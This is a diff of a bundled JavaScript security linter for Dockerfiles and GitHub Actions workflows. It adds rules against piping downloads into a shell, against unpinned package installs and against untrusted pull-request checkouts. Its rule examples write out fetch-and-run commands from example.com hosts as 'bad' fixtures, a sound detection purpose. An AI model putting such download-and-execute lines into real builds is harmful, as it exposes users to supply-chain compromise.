+        'Piping into a shell also runs a truncated download as far as it got. Nothing records which script ran, so the build is not reproducible. ' +
+        'A URL pinned to a 40-hex commit, and a download verified with `sha256sum -c`, `gpg --verify` or `cosign verify-blob` before it runs, are not reported.',
+    fix: 'Download to a file, check it against a known digest, then run it: `curl -fsSLo install.sh https://… && echo "<sha256>  install.sh" | sha256sum -c - && sh install.sh`. ' +
+        'Better still, install the tool with the package manager, a pinned release binary with a checksum, or a SHA-pinned action.',
+    references: [
+        'https://github.com/ossf/scorecard/blob/main/docs/checks.md#pinned-dependencies',
+        'https://docs.docker.com/build/building/best-practices/#run',
+        'https://www.idontplaydarts.com/2016/04/detecting-curl-pipe-bash-server-side/',
+    ],
+    examples: {
+        bad: [
+            { path: 'Dockerfile', text: 'FROM debian:12\nRUN apt-get update && \\\n    curl -fsSL https://get.example.com | sudo -E bash -\n', line: 2 },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo start\n          bash <(curl -s https://example.com/install.sh)\n',
+                line: 8,
+            },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: wget -q https://example.com/setup.sh -O /tmp/setup.sh\n      - run: sh /tmp/setup.sh\n',
+                line: 7,
+            },
+            { path: 'Dockerfile', text: 'FROM alpine:3.20\nRUN <<EOF\nset -e\nsh -c "$(curl -fsSL https://example.com/i.sh)"\nEOF\n', line: 4 },
+        ],
+        good: [
+            {
+                path: 'Dockerfile',
+                text: 'FROM debian:12\nRUN curl -fsSLo /tmp/i.sh https://example.com/i.sh \\\n' +
+                    ' && echo "0000000000000000000000000000000000000000000000000000000000000000  /tmp/i.sh" | sha256sum -c - \\\n && sh /tmp/i.sh\n',
+            },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n' +
+                    '      - run: curl -s https://raw.githubusercontent.com/o/r/0123456789abcdef0123456789abcdef01234567/install.sh | bash\n' +
+                    '      - run: curl -s https://api.github.com/repos/o/r | python3 -c "import json,sys; print(json.load(sys.stdin))"\n',
+            },
+        ],
+    },
+    reads: ['dockerfile', 'workflow'],
+    check(doc, ctx) {
+        const blocks = 'stages' in doc ? dockerfileScripts(doc) : workflowScripts(doc);
+        for (const d of findDownloadExecs(blocks)) {
+            const start = d.block.lineSpan(d.line);
+            const end = d.block.lineSpan(d.endLine);
+            const at = { line: start.line, column: start.column, endLine: end.endLine, endColumn: end.endColumn };
+            ctx.report({ message: message(d), at, confidence: d.url || d.how === 'file' ? 'high' : 'medium' });
         }
     },
 });
@@ -45980,7 +47566,7 @@ function stringify(obj, { maxDepth = 1000, numbersAsFloat = false, strictTempora
 
 
 /** @deprecated use `import * as ... from 'smol-toml'` instead */
-/* harmony default export */ const dist = ({ parse: parse, stringify: stringify, TomlDate: TomlDate, TomlError: TomlError });
+/* harmony default export */ const smol_toml_dist = ({ parse: parse, stringify: stringify, TomlDate: TomlDate, TomlError: TomlError });
 
 ;// CONCATENATED MODULE: ./src/parsers/manifests/toml.ts
 
@@ -46137,15 +47723,13 @@ function parsePipfile(path, text, notices) {
     return { role: 'manifest', ecosystem: 'pypi', path, name: 'Pipfile', dependencies, isWorkspaceRoot: false, tools: ['pipenv'] };
 }
 
-// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
-var yaml_dist = __nccwpck_require__(8815);
 ;// CONCATENATED MODULE: ./src/parsers/manifests/pnpm.ts
 
 /** pnpm-workspace.yaml: the `packages` globs (a small file; the plain YAML parser is enough). */
 function parsePnpmWorkspace(path, text, notices) {
     let value;
     try {
-        value = (0,yaml_dist/* parse */.qg)(text, { prettyErrors: false });
+        value = (0,dist/* parse */.qg)(text, { prettyErrors: false });
     }
     catch (err) {
         const line = err.linePos?.[0]?.line;
@@ -46399,7 +47983,2092 @@ const place = (dir) => (dir === '' ? 'the repository root' : `${dir}/`);
     },
 });
 
+;// CONCATENATED MODULE: ./src/analysis/installs.ts
+
+const SHA = /[0-9a-f]{40}/i;
+const EXACT_SEMVER = /^v?\d+\.\d+\.\d+([-+][0-9A-Za-z.-]+)?$/;
+const isLocal = (w) => /^(\.{1,2}(\/|$)|\/|~\/|file:)/.test(w) || /\.(tgz|tar\.gz|whl|zip)$/.test(w) && !/^[a-z]+:\/\//.test(w);
+const args = (argv, from, withValue = /^$/) => {
+    const out = [];
+    for (let i = from; i < argv.length; i++) {
+        if (withValue.test(argv[i]))
+            i++;
+        else if (!argv[i].startsWith('-'))
+            out.push(argv[i]);
+    }
+    return out;
+};
+const has = (argv, ...flags) => argv.some((w) => flags.some((f) => w === f || w.startsWith(`${f}=`)));
+function npmSpecPinned(spec) {
+    if (isLocal(spec))
+        return true;
+    if (/^(github:|git\+ssh:|git\+https:|git:\/\/)/.test(spec) || /^[\w-]+\/[\w.-]+#/.test(spec))
+        return SHA.test(spec.split('#')[1] ?? '');
+    const at = spec.lastIndexOf('@');
+    return at > 0 && EXACT_SEMVER.test(spec.slice(at + 1));
+}
+function pipSpecPinned(spec) {
+    if (isLocal(spec))
+        return true;
+    if (/^git(\+|:\/\/)/.test(spec))
+        return SHA.test(spec.replace(/#.*$/, '').split('@').at(-1) ?? '');
+    if (/^[a-z]+\+|^[a-z]+:\/\//.test(spec))
+        return false;
+    return /^[A-Za-z0-9._-]+(\[[^\]]*\])?===?[^=<>!~*,]+$/.test(spec) && !spec.includes('*');
+}
+function unfrozenInstall(raw) {
+    let argv = unwrap(raw);
+    const p = programName(argv[0]);
+    if (/^python[\d.]*$/.test(p) && argv[1] === '-m' && /^pip[\d.]*$/.test(argv[2] ?? ''))
+        argv = ['pip', ...argv.slice(3)];
+    const prog = programName(argv[0]);
+    const sub = argv[1];
+    const command = argv.join(' ').slice(0, 80);
+    const unpinned = (what, fix, confidence = 'high') => ({ command, problem: what, fix, confidence });
+    if (prog === 'npm' && ['install', 'i', 'add', 'isntall', 'in'].includes(sub ?? '')) {
+        const specs = args(argv, 2, /^(--prefix|--registry|--cache|-w|--workspace|--tag)$/);
+        if (specs.length === 0)
+            return sub === 'add' ? undefined : unpinned('resolves versions and may rewrite package-lock.json', 'use `npm ci`, which installs exactly what package-lock.json records', 'medium');
+        const loose = specs.filter((s) => !npmSpecPinned(s));
+        if (loose.length > 0)
+            return unpinned(`installs ${loose.join(', ')} without an exact version`, 'add it to package.json and the lockfile, or pin an exact version (`name@1.2.3`)');
+        return undefined;
+    }
+    if (prog === 'yarn') {
+        if (sub === 'add' || (sub === 'global' && argv[2] === 'add')) {
+            const loose = args(argv, sub === 'add' ? 2 : 3).filter((s) => !npmSpecPinned(s));
+            return loose.length ? unpinned(`adds ${loose.join(', ')} without an exact version`, 'pin an exact version and commit the lockfile; install with `yarn install --immutable`') : undefined;
+        }
+        if ((sub === 'install' || args(argv, 1).length === 0) && !has(argv, '--frozen-lockfile', '--immutable'))
+            return unpinned('may resolve new versions and rewrite yarn.lock', 'use `yarn install --immutable` (Yarn 2+) or `yarn install --frozen-lockfile` (Yarn 1)');
+        return undefined;
+    }
+    if (prog === 'pnpm' || prog === 'bun') {
+        if (sub === 'add') {
+            const loose = args(argv, 2).filter((s) => !npmSpecPinned(s));
+            return loose.length ? unpinned(`adds ${loose.join(', ')} without an exact version`, `pin an exact version and commit the lockfile`) : undefined;
+        }
+        if ((sub === 'install' || sub === 'i') && !has(argv, '--frozen-lockfile') && args(argv, 2).length === 0)
+            return prog === 'pnpm'
+                ? unpinned('may update pnpm-lock.yaml (pnpm freezes the lockfile by itself only when it detects CI)', 'use `pnpm install --frozen-lockfile`', 'medium')
+                : unpinned('may update bun.lock', 'use `bun install --frozen-lockfile`');
+        return undefined;
+    }
+    if (/^pip[\d.]*$/.test(prog) && sub === 'install') {
+        if (has(argv, '--require-hashes'))
+            return undefined;
+        const specs = args(argv, 2, /^(-i|--index-url|--extra-index-url|-f|--find-links|-t|--target|--prefix|--root|--trusted-host|--platform|--python-version|--only-binary|--no-binary|--progress-bar)$/);
+        const reqs = argv.filter((w, i) => argv[i - 1] === '-r' || argv[i - 1] === '--requirement' || /^(-r.+|--requirement=)/.test(w));
+        const editable = new Set(argv.filter((_, i) => argv[i - 1] === '-e' || argv[i - 1] === '--editable'));
+        const named = specs.filter((s) => !reqs.includes(s) && !argv.some((w, i) => (w === '-c' || w === '--constraint') && argv[i + 1] === s));
+        const loose = named.filter((s) => !pipSpecPinned(s) || (editable.has(s) && /^(hg|svn|bzr)\+/.test(s)));
+        if (loose.length > 0) {
+            const tooling = loose.every((s) => /^(pip|setuptools|wheel)$/i.test(s));
+            return unpinned(`installs ${loose.join(', ')} without an exact version or hashes`, 'pin `name==1.2.3` (better: a requirements file with `--require-hashes`)', tooling ? 'low' : 'high');
+        }
+        if (reqs.length > 0)
+            return unpinned(`installs ${reqs.join(', ')} without \`--require-hashes\`: versions may be ranges and nothing checks the downloads`, 'generate hashes (`pip-compile --generate-hashes`) and add `--require-hashes`', 'low');
+        return undefined;
+    }
+    if (prog === 'go' && (sub === 'install' || sub === 'get')) {
+        const loose = args(argv, 2).filter((s) => !isLocal(s) && !/@(v\d[\w.+-]*|[0-9a-f]{12,40})$/.test(s));
+        return loose.length ? unpinned(`installs ${loose.join(', ')} at ${loose.some((s) => s.endsWith('@latest')) ? '@latest' : 'no fixed version'}`, 'pin a version (`pkg@v1.2.3`) or add it as a tool dependency in go.mod') : undefined;
+    }
+    if (prog === 'gem' && (sub === 'install' || sub === 'i')) {
+        const names = args(argv, 2, /^(-v|--version|-s|--source|-i|--install-dir)$/);
+        if (names.length === 0 || has(argv, '-v', '--version') || names.every((n) => /:\d[\w.]*$/.test(n)))
+            return undefined;
+        return unpinned(`installs ${names.join(', ')} outside Gemfile.lock without a version`, 'add it to the Gemfile and run `bundle install`, or pin `-v 1.2.3`');
+    }
+    if (prog === 'choco' && sub === 'install' && !has(argv, '--version')) {
+        const names = args(argv, 2, /^(-s|--source)$/);
+        return names.length ? unpinned(`installs ${names.join(', ')} without a version`, 'pin `--version 1.2.3` (and a checksum with `--checksum`)') : undefined;
+    }
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/rules/supply-chain/non-frozen-install.ts
+
+
+
+/* harmony default export */ const non_frozen_install = ({
+    id: 'non-frozen-install',
+    title: 'Package install not frozen to a lockfile or exact version',
+    severity: 'medium',
+    area: 'supply-chain',
+    summary: 'A Dockerfile `RUN` or workflow `run:` installs packages in a way that can pull versions nobody reviewed: `npm install` instead of ' +
+        '`npm ci`, `yarn`/`pnpm`/`bun install` without a frozen lockfile, or a named package without an exact version ' +
+        '(`pip install requests`, `npm i -g foo`, `go install x@latest`, `gem install rake`, `choco install cmake`).',
+    rationale: 'A build that resolves versions at install time gets whatever the registry serves that minute: a hijacked maintainer account or a ' +
+        'typosquat published an hour ago lands in the image or on a runner that holds secrets, and two builds of one commit can differ. ' +
+        'A lockfile installed in frozen mode, or an exact version, keeps the set reviewed. Exact pins (`foo==1.2.3`, `foo@1.2.3`, ' +
+        '`gem install x -v 1.2.3`, a git URL at a 40-hex commit), local paths and `pip install --require-hashes` are not reported. ' +
+        '`pip install -r requirements.txt` without hashes, `pip install --upgrade pip` and `pnpm install` (which freezes by itself when it detects CI) are reported with low or medium confidence.',
+    fix: 'Use the lockfile in frozen mode: `npm ci`, `yarn install --immutable` (Yarn 1: `--frozen-lockfile`), `pnpm install --frozen-lockfile`, ' +
+        '`bun install --frozen-lockfile`, `pip install --require-hashes -r requirements.txt`. For one-off tools pin an exact version: ' +
+        '`npm i -g foo@1.2.3`, `pip install foo==1.2.3`, `go install example.com/x@v1.2.3`.',
+    references: [
+        'https://docs.npmjs.com/cli/commands/npm-ci',
+        'https://pip.pypa.io/en/stable/topics/secure-installs/',
+        'https://github.com/ossf/scorecard/blob/main/docs/checks.md#pinned-dependencies',
+        'https://docs.zizmor.sh/audits/#adhoc-packages',
+    ],
+    examples: {
+        bad: [
+            { path: 'Dockerfile', text: 'FROM node:22\nCOPY . .\nRUN npm install && npm run build\n', line: 3 },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          pip install pytest\n          go install golang.org/x/vuln/cmd/govulncheck@latest\n',
+                line: 7,
+            },
+            { path: 'Dockerfile', text: 'FROM node:22\nRUN yarn install\n', line: 2 },
+        ],
+        good: [
+            { path: 'Dockerfile', text: 'FROM node:22\nCOPY . .\nRUN npm ci && npm run build\nRUN pip install --require-hashes -r requirements.txt\n' },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          pip install pytest==8.3.3 -e .\n' +
+                    '          npm install -g typescript@5.6.3\n          go install golang.org/x/vuln/cmd/govulncheck@v1.1.3\n          yarn install --immutable\n',
+            },
+        ],
+    },
+    reads: ['dockerfile', 'workflow'],
+    check(doc, ctx) {
+        const blocks = 'stages' in doc ? dockerfileScripts(doc) : workflowScripts(doc);
+        for (const block of blocks) {
+            const lines = block.script.split(/\r?\n/);
+            const used = new Map();
+            for (const c of parseShell(block.script).commands) {
+                const found = unfrozenInstall(c.argv);
+                if (!found)
+                    continue;
+                // The physical line, within a continued logical line, that holds this install (counting repeats).
+                const needle = c.argv.find((w) => /install|^add$|^i$/.test(w)) ?? '';
+                let end = c.line;
+                for (let i = c.line; i < lines.length; i++) {
+                    const count = needle ? lines[i].split(needle).length - 1 : 0;
+                    if (count > (used.get(i) ?? 0)) {
+                        end = i;
+                        break;
+                    }
+                    if (!/\\\s*$/.test(lines[i]))
+                        break;
+                }
+                used.set(end, (used.get(end) ?? 0) + 1);
+                const start = block.lineSpan(c.line);
+                const stop = block.lineSpan(end);
+                ctx.report({
+                    message: `\`${found.command}\` ${found.problem}: ${found.fix}.`,
+                    at: { line: start.line, column: start.column, endLine: stop.endLine, endColumn: stop.endColumn },
+                    confidence: found.confidence,
+                });
+            }
+        }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/analysis/expressions.ts
+/**
+ * GitHub Actions expressions (`${{ … }}`): find them in text, and work out which context paths
+ * can flow into the expression's value. Functions and operators that return booleans or numbers
+ * (`contains`, `startsWith`, `==`, `!`, …) stop the flow; `||`, `format`, `join`, `toJSON` and
+ * `fromJSON` pass their operands' text through; `a && b` passes only b's (a falsy a carries no text).
+ */
+function findExpressions(text) {
+    const out = [];
+    let i = text.indexOf('${{');
+    while (i >= 0) {
+        const close = findClose(text, i + 3);
+        if (close < 0)
+            break;
+        out.push({ start: i, end: close + 2, body: text.slice(i + 3, close).trim() });
+        i = text.indexOf('${{', close + 2);
+    }
+    return out;
+}
+/** Index of the `}}` that closes an expression starting at `from`, skipping string literals. */
+function findClose(text, from) {
+    for (let i = from; i < text.length - 1; i++) {
+        const c = text[i];
+        if (c === "'") {
+            const j = text.indexOf("'", i + 1);
+            if (j < 0)
+                return -1;
+            i = j;
+        }
+        else if (c === '}' && text[i + 1] === '}')
+            return i;
+    }
+    return -1;
+}
+function lex(src) {
+    const out = [];
+    let i = 0;
+    while (i < src.length) {
+        const c = src[i];
+        if (/\s/.test(c))
+            i++;
+        else if (c === "'") {
+            let j = i + 1;
+            let v = '';
+            while (j < src.length) {
+                if (src[j] === "'" && src[j + 1] === "'") {
+                    v += "'";
+                    j += 2;
+                }
+                else if (src[j] === "'")
+                    break;
+                else
+                    v += src[j++];
+            }
+            out.push({ t: 'str', v });
+            i = j + 1;
+        }
+        else if (/[A-Za-z_]/.test(c)) {
+            const m = /^[A-Za-z_][A-Za-z0-9_-]*/.exec(src.slice(i));
+            out.push({ t: 'id', v: m[0] });
+            i += m[0].length;
+        }
+        else if (/[0-9]/.test(c) || (c === '-' && /[0-9]/.test(src[i + 1] ?? ''))) {
+            const m = /^-?[0-9][0-9a-fA-FxX.eE+-]*/.exec(src.slice(i));
+            out.push({ t: 'num', v: m[0] });
+            i += m[0].length;
+        }
+        else {
+            const two = src.slice(i, i + 2);
+            const op = ['==', '!=', '<=', '>=', '&&', '||'].includes(two) ? two : '<>!'.includes(c) ? c : undefined;
+            out.push(op ? { t: 'op', v: op } : { t: 'punc', v: c });
+            i += op?.length ?? 1;
+        }
+    }
+    return out;
+}
+const TEXT_FUNCTIONS = new Set(['format', 'join', 'tojson', 'fromjson']);
+/**
+ * Context paths (normalised: `github.event.issue.title`, `*` for indexes) whose text can reach
+ * the value of the expression. Unparseable input yields every context path found in it, so a
+ * parse failure errs on the side of reporting.
+ */
+function flowingContexts(body) {
+    const toks = lex(body);
+    let pos = 0;
+    const peek = () => toks[pos];
+    const next = () => toks[pos++];
+    const isOp = (v) => peek()?.t === 'op' && peek()?.v === v;
+    function orExpr() {
+        let left = andExpr();
+        while (isOp('||')) {
+            next();
+            left = [...left, ...andExpr()];
+        }
+        return left;
+    }
+    function andExpr() {
+        let left = cmpExpr();
+        while (isOp('&&')) {
+            next();
+            // `a && b` yields b when a is truthy, else a's falsy value ('', 0, false, null), which carries
+            // no text: only the right operand flows.
+            left = cmpExpr();
+        }
+        return left;
+    }
+    function cmpExpr() {
+        const left = unary();
+        if (peek()?.t === 'op' && ['==', '!=', '<', '>', '<=', '>='].includes(peek().v)) {
+            while (peek()?.t === 'op' && ['==', '!=', '<', '>', '<=', '>='].includes(peek().v)) {
+                next();
+                unary();
+            }
+            return [];
+        }
+        return left;
+    }
+    function unary() {
+        if (isOp('!')) {
+            next();
+            unary();
+            return [];
+        }
+        return primary();
+    }
+    function primary() {
+        const tok = next();
+        if (!tok)
+            return [];
+        if (tok.t === 'str' || tok.t === 'num')
+            return [];
+        if (tok.t === 'punc' && tok.v === '(') {
+            const inner = orExpr();
+            if (peek()?.v === ')')
+                next();
+            return postfix(inner, undefined);
+        }
+        if (tok.t === 'id') {
+            if (peek()?.v === '(') {
+                next();
+                const args = [];
+                while (peek() && peek().v !== ')') {
+                    args.push(orExpr());
+                    if (peek()?.v === ',')
+                        next();
+                    else
+                        break;
+                }
+                if (peek()?.v === ')')
+                    next();
+                const fn = tok.v.toLowerCase();
+                return postfix(TEXT_FUNCTIONS.has(fn) ? args.flat() : [], undefined);
+            }
+            if (['true', 'false', 'null'].includes(tok.v))
+                return [];
+            return postfix([], tok.v);
+        }
+        return [];
+    }
+    function postfix(value, path) {
+        let flow = value;
+        let p = path;
+        for (;;) {
+            if (peek()?.v === '.' && toks[pos + 1]) {
+                next();
+                const t = next();
+                if (p !== undefined)
+                    p += `.${t.v === '*' ? '*' : t.v}`;
+                // `(a || b).number`, `fromJSON(x).id`: the member of each flowing value.
+                else
+                    flow = flow.map((f) => `${f}.${t.v === '*' ? '*' : t.v}`);
+            }
+            else if (peek()?.v === '[') {
+                next();
+                const t = next();
+                if (peek()?.v === ']')
+                    next();
+                const seg = t?.t === 'str' ? `.${t.v}` : '.*';
+                if (p !== undefined)
+                    p += seg;
+                else
+                    flow = flow.map((f) => f + seg);
+            }
+            else
+                break;
+        }
+        return p !== undefined ? [...flow, p] : flow;
+    }
+    try {
+        const flow = orExpr();
+        if (pos < toks.length)
+            return everyPath(body);
+        return [...new Set(flow)];
+    }
+    catch {
+        return everyPath(body);
+    }
+}
+function everyPath(body) {
+    return [...new Set(body.match(/[A-Za-z_][\w-]*(?:\.(?:[\w-]+|\*)|\[[^\]]*\])+/g) ?? [])];
+}
+
+;// CONCATENATED MODULE: ./src/analysis/checkout.ts
+
+
+/**
+ * Untrusted checkouts: a workflow that runs with the base repository's token and secrets
+ * (`pull_request_target`, `workflow_run`, `issue_comment`) fetching the pull request's code.
+ * Shared by the `untrusted-checkout` and `dangerous-trigger` rules so they never disagree.
+ */
+const PRIVILEGED_TRIGGERS = ['pull_request_target', 'workflow_run', 'issue_comment'];
+/** `actions/checkout@v4` → `actions/checkout`, lower-cased. */
+function actionName(uses) {
+    return (uses ?? '').replace(/@.*$/, '').toLowerCase();
+}
+function isCheckoutStep(step) {
+    return actionName(step.uses?.value) === 'actions/checkout';
+}
+function privilegedTriggers(wf) {
+    return wf.triggers.filter((t) => PRIVILEGED_TRIGGERS.includes(t.name));
+}
+function envLookup(wf, job, step) {
+    return (name) => step.env.get(name)?.value ?? job.env.get(name)?.value ?? wf.env.get(name)?.value;
+}
+const PR_REF_TEXT = /pull\/(\$\{\{[^}]*\}\}|[^/\s'"]+)\/(head|merge)\b/;
+/** Whether text (a `ref:` value, a shell word) names the pull request's code; returns what it names. */
+function untrustedRef(text, lookup, depth = 0) {
+    if (PR_REF_TEXT.test(text))
+        return { how: `the pull request ref \`${PR_REF_TEXT.exec(text)[0]}\``, confidence: 'high' };
+    let medium;
+    for (const e of findExpressions(text)) {
+        for (const raw of flowingContexts(e.body)) {
+            const path = raw.toLowerCase();
+            if (path.startsWith('github.event.pull_request.head.') || path === 'github.head_ref' || path === 'github.event.pull_request.merge_commit_sha')
+                return { how: `\`${raw}\``, confidence: 'high' };
+            if (path.startsWith('github.event.workflow_run'))
+                return { how: `\`${raw}\` (the triggering run's code)`, confidence: 'high' };
+            if (path.startsWith('env.') && depth < 3) {
+                const v = lookup(raw.slice(4));
+                const inner = v === undefined ? undefined : untrustedRef(v, lookup, depth + 1);
+                if (inner)
+                    return { ...inner, how: `${inner.how} via \`${raw}\`` };
+            }
+            if (/^(steps|needs)\.[^.]+\.outputs\./.test(path) && /head|sha|ref|branch|pr|pull/.test(path.replace(/^(steps|needs)\./, '')))
+                medium ??= { how: `\`${raw}\` (looks like a pull request lookup)`, confidence: 'medium' };
+        }
+    }
+    return medium;
+}
+/** A shell command in `script` that fetches or checks out the pull request's code. */
+function shellCheckout(script, lookup) {
+    const parsed = parseShell(script);
+    const raw = script.split(/\r?\n/);
+    for (const c of parsed.commands) {
+        const argv = unwrap(c.argv);
+        const prog = programName(argv[0]);
+        const text = raw[c.line] ?? '';
+        if (prog === 'gh' && argv[1] === 'pr' && argv[2] === 'checkout')
+            return { how: '`gh pr checkout`', line: c.line, confidence: 'high' };
+        if (prog !== 'git' || !['fetch', 'checkout', 'switch', 'pull', 'clone', 'reset', 'worktree'].includes(argv[1] ?? ''))
+            continue;
+        const words = argv.slice(2).map((w) => w.replace(/^\$\{?([A-Za-z_]\w*)\}?$/, (_, name) => lookup(name) ?? w));
+        const hit = untrustedRef(words.join(' '), lookup) ?? untrustedRef(text, lookup);
+        if (hit)
+            return { how: `\`git ${argv[1]}\` of ${hit.how}`, line: c.line, confidence: hit.confidence };
+    }
+    return undefined;
+}
+/** Every step of a privileged workflow that checks out pull request code. Empty for other workflows. */
+function untrustedCheckouts(wf) {
+    if (wf.type !== 'workflow' || privilegedTriggers(wf).length === 0)
+        return [];
+    const out = [];
+    for (const job of wf.jobs)
+        for (const step of job.steps) {
+            const lookup = envLookup(wf, job, step);
+            const guard = guardConfidence(job, step);
+            if (isCheckoutStep(step)) {
+                for (const key of ['ref', 'repository']) {
+                    const v = step.with.get(key);
+                    const hit = v && untrustedRef(v.value, lookup);
+                    if (hit) {
+                        out.push({ job, step, at: v.span, how: `\`${key}: ${v.value.trim()}\` (${hit.how})`, confidence: lower(hit.confidence, guard) });
+                        break;
+                    }
+                }
+            }
+            else if (step.run) {
+                const hit = shellCheckout(step.run.value, lookup);
+                if (hit) {
+                    const line = step.run.value.split(/\r?\n/)[hit.line]?.trim() ?? '';
+                    const at = (line && wf.spanWithin(step.run.node, line)) || step.run.span;
+                    out.push({ job, step, at, how: hit.how, confidence: lower(hit.confidence, guard) });
+                }
+            }
+        }
+    return out;
+}
+/** A guard on the job or step narrows who can trigger it: a same-repository check nearly closes the hole, labels and actor checks less so. */
+function guardConfidence(job, step) {
+    const cond = `${job.if?.value ?? ''} ${step.if?.value ?? ''}`;
+    if (/head\.repo\.(full_name|fork)|head_repository\.(full_name|fork)/.test(cond))
+        return 'low';
+    if (/label|author_association|github\.actor|github\.triggering_actor/.test(cond) || job.environment)
+        return 'medium';
+    return 'high';
+}
+const ORDER = ['high', 'medium', 'low'];
+function lower(a, b) {
+    return ORDER[Math.max(ORDER.indexOf(a), ORDER.indexOf(b))];
+}
+/** Build, test and package tools that run code from the working tree (scripts, build files, hooks, configs). */
+const RUNS_PROJECT_CODE = new Set([
+    'npm', 'npx', 'yarn', 'pnpm', 'bun', 'deno', 'node', 'pip', 'pip3', 'pipenv', 'poetry', 'pdm', 'uv', 'hatch', 'tox', 'nox',
+    'pytest', 'python', 'python3', 'make', 'cmake', 'ninja', 'meson', 'bazel', 'go', 'cargo', 'mvn', 'mvnw', 'gradle', 'gradlew',
+    'ant', 'sbt', 'bundle', 'rake', 'ruby', 'composer', 'php', 'perl', 'dotnet', 'msbuild', 'mix', 'rebar3', 'swift', 'xcodebuild',
+    'pre-commit', 'lerna', 'nx', 'turbo', 'jest', 'vitest', 'mocha', 'eslint', 'webpack', 'vite', 'rollup', 'playwright',
+    'terraform', 'tofu', 'goreleaser', 'source', '.',
+]);
+const INLINE = ['-c', '-e', '-p', '--version', '-V', '-v'];
+const SAFE_SUBCOMMANDS = {
+    npm: ['view', 'info', 'whoami', 'config', '--version', '-v'],
+    go: ['version', 'env'],
+    python: INLINE, python3: INLINE, node: INLINE, ruby: INLINE, perl: INLINE, php: INLINE,
+};
+const checkout_INTERPRETERS = new Set(['bash', 'sh', 'zsh', 'dash', 'pwsh', 'powershell']);
+/** What in a script runs code from the checked-out tree, or undefined when it only uses tools such as gh, echo or jq. */
+function scriptRunsWorkspace(script) {
+    for (const c of parseShell(script).commands) {
+        const argv = unwrap(c.argv);
+        const word = argv[0] ?? '';
+        const prog = programName(word);
+        // A relative path, or one under the workspace (`$GITHUB_WORKSPACE/x`, `${{ github.workspace }}/x`), is a script from the checkout.
+        if (/^\.{1,2}\//.test(word) || /^(\$\{?GITHUB_WORKSPACE\}?|__GHA_EXPR__)\//.test(word) || (word.includes('/') && !/^[/$~]/.test(word) && !word.startsWith('__GHA')))
+            return `\`${word.replace('__GHA_EXPR__', '${{ … }}')}\``;
+        if (checkout_INTERPRETERS.has(prog) && !argv.includes('-c')) {
+            const file = argv.slice(1).find((w) => !w.startsWith('-'));
+            if (file && !file.startsWith('__GHA') && !file.startsWith('/'))
+                return `\`${prog} ${file}\``;
+        }
+        if (prog === 'docker' && (argv.includes('build') || argv.includes('buildx') || (argv[1] === 'compose' && argv.includes('build'))))
+            return '`docker build`';
+        if (RUNS_PROJECT_CODE.has(prog) && !(SAFE_SUBCOMMANDS[prog] ?? []).includes(argv[1] ?? ''))
+            return `\`${[prog, ...argv.slice(1, 2)].join(' ')}\``;
+    }
+    return undefined;
+}
+/** Actions that build or run the repository's code. */
+const CODE_RUNNING_ACTIONS = new Set([
+    'docker/build-push-action', 'docker/bake-action', 'pre-commit/action', 'github/codeql-action/autobuild', 'goreleaser/goreleaser-action',
+    'cypress-io/github-action', 'bahmutov/npm-install', 'changesets/action', 'gradle/gradle-build-action', 'borales/actions-yarn',
+]);
+/** The first step after `from` in the job that executes code from the workspace. */
+function firstExecutingStep(job, from) {
+    for (const step of job.steps.slice(from + 1)) {
+        const name = actionName(step.uses?.value);
+        if (name.startsWith('./'))
+            return { step, what: `the local action \`${step.uses.value}\`` };
+        if (CODE_RUNNING_ACTIONS.has(name))
+            return { step, what: `\`${name}\`` };
+        if (name === 'ruby/setup-ruby' && step.with.get('bundler-cache')?.value === 'true')
+            return { step, what: '`bundle install` (bundler-cache)' };
+        if (name === 'actions/github-script' && /require\(\s*['"`]\.{1,2}\/|import\(\s*['"`]\.{1,2}\//.test(step.with.get('script')?.value ?? ''))
+            return { step, what: 'a script from the checkout loaded by `actions/github-script`' };
+        const script = step.run?.value ?? step.with.get('run')?.value ?? step.with.get('command')?.value;
+        const what = script === undefined ? undefined : scriptRunsWorkspace(script);
+        if (what)
+            return { step, what };
+    }
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/analysis/permissions.ts
+
+
+/**
+ * What the GITHUB_TOKEN and secrets of a workflow can reach, for rules that weigh a trigger or a
+ * permissions block. A job without `permissions` inherits the workflow's; with neither, the token
+ * gets the repository default, which is read-write on repositories created before February 2023.
+ */
+function writeScopes(p) {
+    if (!p)
+        return [];
+    if (p.shorthand === 'write-all')
+        return ['write-all'];
+    return [...p.scopes].filter(([, v]) => v.value.trim().toLowerCase() === 'write').map(([k]) => k);
+}
+/** Jobs whose token falls back to the repository default (no `permissions` on the job or the workflow). */
+function jobsWithDefaultToken(wf) {
+    return wf.permissions ? [] : wf.jobs.filter((j) => !j.permissions);
+}
+function writePower(wf) {
+    const top = writeScopes(wf.permissions);
+    if (top.length > 0)
+        return { what: `workflow permissions \`${top.join('`, `')}\``, at: wf.permissions.span, implicit: false };
+    for (const job of wf.jobs) {
+        const w = writeScopes(job.permissions);
+        if (w.length > 0)
+            return { what: `job \`${job.id}\` permissions \`${w.join('`, `')}\``, at: job.permissions.span, implicit: false };
+    }
+    const dflt = jobsWithDefaultToken(wf)[0];
+    if (dflt)
+        return { what: `the repository's default token permissions (no \`permissions:\` for job \`${dflt.id}\`), which may be read-write`, at: dflt.keySpan, implicit: true };
+    return undefined;
+}
+/** Secrets the workflow references (`secrets.X`, `secrets: inherit`), excluding `GITHUB_TOKEN`. */
+function referencedSecrets(wf) {
+    const out = [];
+    for (const job of wf.jobs)
+        if (job.secrets?.value === 'inherit')
+            out.push({ name: 'secrets: inherit', at: job.secrets.span });
+    (0,dist/* visit */.YR)(wf.doc, {
+        Scalar(_, node) {
+            if (!(0,dist/* isScalar */.jn)(node) || typeof node.value !== 'string' || !node.value.includes('secrets'))
+                return;
+            for (const e of findExpressions(node.value))
